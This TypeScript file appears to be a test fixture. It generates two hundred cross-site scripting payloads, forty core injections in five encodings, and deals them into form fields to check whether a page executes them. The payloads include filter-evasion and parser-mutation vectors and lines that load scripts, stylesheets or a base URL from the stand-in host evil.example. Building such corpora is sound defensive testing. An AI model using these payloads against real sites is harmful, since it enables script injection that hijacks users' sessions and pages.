/**
 * Two hundred ways in which a text tries to become a program: forty, each in five disguises. All of them
 * call `fired()` or ask `evil.example`, so that a page that runs one of them is noticed.
 */

const bad = 'fired()'
const site = 'https://evil.example/'

const cores: readonly string[] = [
  `<script>${bad}</script>`,
  `<script src=${site}x.js></script>`,
  `<ScRiPt/x>${bad}</sCrIpT >`,
  `<scr<script>ipt>${bad}</scr</script>ipt>`,
  `<img src=x onerror=${bad}>`,
  `<img src=${site}p.gif>`,
  `<img src=x:x\tonerror\n=\n${bad}>`,
  `<image xlink:href=x onerror=${bad}>`,
  `<svg/onload=${bad}>`,
  `<svg><script>${bad}</script></svg>`,
  `<svg><animate onbegin=${bad} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${bad}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${bad}>`,
  `<noscript><p title="</noscript><img src=x onerror=${bad}>">`,
  `<body onload=${bad}>`,
  `<details open ontoggle=${bad}>`,
  `<input autofocus onfocus=${bad}>`,
  `<select autofocus onfocus=${bad}>`,
  `<textarea autofocus onfocus=${bad}>`,
  `<video><source onerror=${bad}>`,
  `<audio src=x onerror=${bad}>`,
  `<marquee onstart=${bad}>`,
  `<div style="animation:x" onanimationstart=${bad}>`,
  `<iframe srcdoc="<script>parent.${bad}</script>">`,
  `<iframe src=javascript:parent.${bad}>`,
  `<object data=javascript:${bad}>`,
  `<embed src=${site}x.swf>`,
  `<link rel=stylesheet href=${site}x.css>`,
  `<style>@import '${site}x.css';</style>`,
  `<base href=${site}>`,
  `<meta http-equiv=refresh content="0;url=${site}">`,
  `<form action=${site}><button autofocus onfocus=${bad}>x`,
  `<a href=javascript:${bad}>x</a>`,
  `[x](javascript:${bad}) ![x](${site}p.gif)`,
  `javascript:/*--></title></style></textarea>*/${bad}//`,
  `{{constructor.constructor('${bad}')()}}`,
  `\${${bad}}<%= ${bad} %>#{${bad}}`,
  `";${bad};//';${bad};//`,
  `{"__html":"<img src=x onerror=${bad}>","constructor":{"prototype":{}}}`,
  `data:text/html,<script>parent.${bad}</script>`,
]

const asEntities = (text: string): string =>
  text.replaceAll(/[<>"'&():]/g, (one) => `&#${one.charCodeAt(0)};`)

const disguises: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `"'>${core}`,
  (core) => `</textarea></title></style></script>-->]]>${core}`,
  asEntities,
  encodeURIComponent,
]

export const scriptPayloads: readonly string[] = disguises.flatMap((wrap) => cores.map(wrap))

/** Stands first in whatever is dealt: the one that any forgotten escape lets through. */
export const plainest = '<img src=x onerror=fired()>'

/** Deals payloads out, round and round, as many at a time as a field has room for. */
export const dealer = () => {
  let at = 0
  const dealt = new Set<string>()
  return {
    /** At most so many characters and bytes; a payload that is too long for the field is cut. */
    next: (room: number): string => {
      let text = room > 2 * plainest.length ? plainest : ''
      for (let n = 0; n < scriptPayloads.length; n++) {
        const one = scriptPayloads[at % scriptPayloads.length]!
        const more = text === '' ? one : `${text}\n${one}`
        if (Buffer.byteLength(more) > room) break
        text = more
        dealt.add(one)
        at++
      }
      if (text === '') text = scriptPayloads[at++ % scriptPayloads.length]!.slice(0, room)
      return text
    },
    dealt: () => dealt.size,
  }
}
